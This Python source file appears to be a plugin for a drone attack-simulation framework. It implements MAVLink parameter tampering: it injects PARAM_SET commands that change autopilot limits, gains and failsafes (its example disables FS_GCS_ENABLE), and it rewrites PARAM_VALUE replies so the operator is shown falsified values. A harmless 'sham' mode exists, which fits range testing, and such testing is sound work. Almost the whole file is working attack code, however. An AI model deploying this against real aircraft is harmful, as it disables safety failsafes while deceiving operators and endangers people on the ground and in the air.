"""Parameter tampering: parameters of the autopilot are set, and the answers to the operator are falsified."""

from __future__ import annotations

import math
from dataclasses import replace

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.orders import replace_message
from skyrange.attack.bases.mavlink.params import ParameterValues


@sky.attack(
    "mavlink.parameter",
    technique="T0836",
    persists="flight",
    effect="the autopilot flies with other limits, gains, failsafes or stream rates than its operator set",
    knowledge="system ids, and names of parameters, which are public",
    position="by place: near the link with a radio, in the operator's network, or on board; on its path "
    "to show other values",
    budget="one frame for each parameter and round",
    load="the sham: the same frames with values that the parameters have, or NaN",
    content="the same frames with the values that the parameters have",
    placement="the same frames to another aircraft",
)
class ParameterTampering(sky.Injection):
    """Sets parameters of the autopilot, and may show the operator other values.

    The sham sets the values that the aircraft told, or NaN, which autopilots ignore (GCS_Param.cpp,
    `handle_param_set`).
    """

    reads = ("PARAM_VALUE",)

    values: ParameterValues = sky.param(
        "New values by parameter, such as { FS_GCS_ENABLE = 0, WPNAV_SPEED = 2000 }.", min_length=1
    )
    shown: ParameterValues = sky.param(
        "Values that the operator is shown instead, by parameter: PARAM_VALUE is altered on its way.", default={}
    )
    every_s: sky.Number = sky.param("Time between two rounds, in seconds.", default=1.0, ge=0.05, le=3600)
    times: sky.Whole = sky.param("Number of rounds; 0 is until the attack stops.", default=3, ge=0, le=100_000)
    present: dict[str, float] = sky.state(dict)
    """Values that the aircraft told."""

    def build(self, context: sky.AttackContext) -> sky.Attack:
        """Its taps; no other attack may show other values there."""
        made, shown = super().build(context), frozenset(self.shown)
        exclusive = [sky.Exclusive(f"PARAM_VALUE on {tap.match}", shown) for tap in made.taps] if shown else []
        return replace(made, exclusive=exclusive)

    def orders(self, now: sky.Time) -> list[bytes]:
        # autopilots convert by the type that they know, whatever the message says (GCS_Param.cpp, handle_param_set)
        kind = sky.mavlink.MAV_PARAM_TYPE_REAL32
        orders = [
            sky.mavlink.MAVLink_param_set_message(self.target, sky.AUTOPILOT, name.encode(), value, kind)
            for name, value in (self.harmless() if self.sham else self.values).items()
        ]
        return [self.claimed.packer.pack(order) for order in orders]

    def harmless(self) -> dict[str, float]:
        """The values of a sham: those that parameters have, and NaN for what was not heard, which is not answered."""
        return {name: self.present.get(name, math.nan) for name in self.values}

    def on_message(self, now: sky.Time, message: sky.MavlinkMessage) -> sky.Verdicts:
        self.present[message.param_id] = message.param_value
        value = self.shown.get(message.param_id)
        if value is None:
            return ()
        shown = sky.mavlink.MAVLink_param_value_message(
            message.param_id.encode(), value, message.param_type, message.param_count, message.param_index
        )
        return [replace_message(message, shown, sham=self.sham)]
